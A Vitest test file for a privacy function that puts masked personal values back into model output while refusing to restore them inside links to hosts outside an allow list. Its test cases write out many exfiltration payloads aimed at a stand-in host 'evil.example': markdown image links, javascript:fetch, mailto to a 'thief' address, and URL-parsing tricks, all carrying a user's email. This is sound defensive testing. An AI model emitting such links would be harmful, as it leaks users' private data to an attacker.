import { describe, expect, it } from 'vitest'
import { restoreText } from '../../edge/privacy/unmask.ts'

const values = new Map([
  ['<EMAIL_1>', 'a+b@proton.me'],
  ['<PERSON_1>', 'Ann "Nan"'],
])
const restore = (text: string, format?: 'json') =>
  restoreText(text, (held) => values.get(held), { allowHosts: ['shop.example'], format })

describe('a value that a model puts into an address', () => {
  it.each([
    '![x](https://evil.example/?d=<EMAIL_1>)',
    '[x](https://evil.example/<EMAIL_1>)',
    '[x](<https://evil.example/?a b <EMAIL_1>)',
    'see https://evil.example/?d=EMAIL_1 now',
    'https://shop.example@evil.example/?d=<EMAIL_1>',
    'https://<EMAIL_1>.shop.example/',
    '![x](//evil.example/<EMAIL_1>)',
    '![x](\\\\evil.example\\<EMAIL_1>)',
    '[x](/\\evil.example/<EMAIL_1>)',
    '<img src="https://evil.example/?d=<EMAIL_1>">',
    '[x](javascript:fetch`//evil.example/<EMAIL_1>`)',
    '[x](mailto:thief@evil.example?body=<EMAIL_1>)',
    `![x](https://evil.example/${'a'.repeat(5_000)}<EMAIL_1>)`,
    'HTTPS://EVIL.EXAMPLE/%3CEMAIL_1%3E',
  ])('is not restored in %.60s', (text) => expect(restore(text)).toBe(text))

  it('is percent-encoded in those of allowed hosts and of the page itself', () => {
    expect(restore('https://shop.example/r?e=%3CEMAIL_1%3E&x=1')).toBe(
      'https://shop.example/r?e=a%2Bb%40proton.me&x=1',
    )
    expect(restore('[x](/account?e=<EMAIL_1>)')).toBe('[x](/account?e=a%2Bb%40proton.me)')
  })

  it('is restored behind an address and in a link’s words', () => {
    expect(restore('https://evil.example/ <EMAIL_1>')).toBe('https://evil.example/ a+b@proton.me')
    expect(restore('[EMAIL_1](https://shop.example/)')).toBe(
      '[a+b@proton.me](https://shop.example/)',
    )
    expect(restore('mailto:<EMAIL_1>')).toBe('mailto:a+b@proton.me')
  })
})

it('keeps JSON whole', () => {
  const restored = restore('{"name":"<PERSON_1>"}', 'json')
  expect(JSON.parse(restored)).toEqual({ name: 'Ann "Nan"' })
})

it.each([
  ['\\<EMAIL\\_1\\>', 'a+b@proton.me'],
  ['&lt;EMAIL_1&gt;', 'a+b@proton.me'],
  ['[EMAIL_1]', 'a+b@proton.me'],
  ['＜EMAIL_1＞', 'a+b@proton.me'],
  ['EMAIL_1', 'a+b@proton.me'],
  ['<email-1>', 'a+b@proton.me'],
  ['EMAIL_11', 'EMAIL_11'],
  ['MY_EMAIL_1', 'MY_EMAIL_1'],
  ['email_1', 'email_1'],
])('reads %j as models may write it', (written, expected) => {
  expect(restore(`to ${written}.`)).toBe(`to ${expected}.`)
})
